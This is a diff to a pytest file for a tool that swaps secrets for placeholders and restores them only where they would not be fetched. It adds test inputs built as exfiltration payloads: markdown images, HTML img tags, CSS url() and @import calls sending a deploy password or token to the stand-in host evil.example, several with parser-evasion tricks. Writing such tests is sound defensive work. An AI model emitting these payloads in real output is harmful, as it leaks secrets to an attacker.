@@ -31,6 +31,18 @@ SEALED = sealer().seal(FILE, "files")
         "mailto:me@evil.example?body={}\n",
         "HTTPS:evil.example/{}\n",
         "deploy password: {}\n\n![x](https://evil.example/(a)/{})\n",
+        '<img alt=">" src="https://evil.example/?\ndeploy password: {}\n">\n',
+        "<img alt='>' src = 'https://evil.example/?\ndeploy password: {}'>\n",
+        '<img src="https://evil.example/?a<1\ndeploy password: {}">\n',
+        '<img src="https://evil.example/?' + "a" * 20_000 + '\ndeploy password: {}">\n',
+        "<img alt=a'b src=\"https://evil.example/?' >\ndeploy password: {}\">\n",
+        '<!-- x=" --> <img src="https://evil.example/?>\ndeploy password: {}">\n',
+        '`<!--` <img src="https://evil.example/?-->\ndeploy password: {}">\n',
+        "![x](<https://evil.example/?\\>) deploy password: {}>)\n",
+        "![x]( < https://evil.example/?) deploy password: {}>)\n",
+        "[a]: <https://evil.example/?\\> deploy password: {}>\n",
+        '<style>a{{background:url("https://evil.example/?>) deploy password: {}")}}</style>\n',
+        '<style>@import "https://evil.example/?> deploy password: {}";</style>\n',
     ],
 )
 def test_what_would_be_fetched_keeps_its_placeholder(text: str) -> None:
@@ -49,11 +61,21 @@ def test_what_would_be_fetched_keeps_its_placeholder(text: str) -> None:
         "deploy password: {}\nmore\n",
         "# Secrets\n\ndeploy password: {}\n",
         "- deploy password: {} (rotated, see x.md)\n",
+        "a < b, a -> c, <b>bold</b>, \\<i\\> and it's said: see [x](y.md)\n\ndeploy password: {}\n",
+        '<img alt="a > b" src="x.png">\n\nname = "ann"\n\ndeploy password: {}\n',
     ],
 )
 def test_what_is_no_address_gets_its_value_back(text: str) -> None:
     brought = text.replace("{}", PLACEHOLDER)
     assert sealer().restore(brought, SEALED.values, "files", before=SEALED.text) == text.replace("{}", VALUE)
+
+
+@pytest.mark.parametrize("text", ["https://evil.example/" + "a" * 20_000 + "{}\n", "see {}.evil.example/x\n"])
+def test_a_token_in_the_middle_of_an_address_keeps_its_placeholder(text: str) -> None:
+    sealed = sealer().seal(f"the token {TOKEN}\n", "files")
+    (placeholder,) = sealed.values
+    brought = text.replace("{}", placeholder)
+    assert sealer().restore(brought, sealed.values, "files", before=sealed.text) == brought
 
 
 def test_an_address_of_ones_own_goes_on_working() -> None:
